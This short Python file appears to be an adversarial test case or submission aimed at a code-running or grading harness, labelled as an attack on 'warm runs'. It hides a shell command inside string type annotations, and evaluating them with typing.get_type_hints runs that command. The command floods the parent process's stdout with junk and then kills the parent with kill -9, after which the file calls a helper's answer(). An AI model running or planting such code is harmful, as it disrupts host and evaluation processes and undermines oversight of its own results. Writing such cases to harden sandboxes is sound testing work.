# Attacks warm runs: ends the process that made the copy, and floods what that says.
import typing

from helper import answer


def f(
    host: "__import__('sys').modules.get('select')",
    strike: "(lambda os: os.system('yes x | head -c 1000000 > /proc/%d/fd/1; kill -9 %d' % (os.getppid(), os.getppid())) "
    "if __import__('sys').modules.get('select') else None)(__import__('os'))",
):
    pass


typing.get_type_hints(f)
answer()
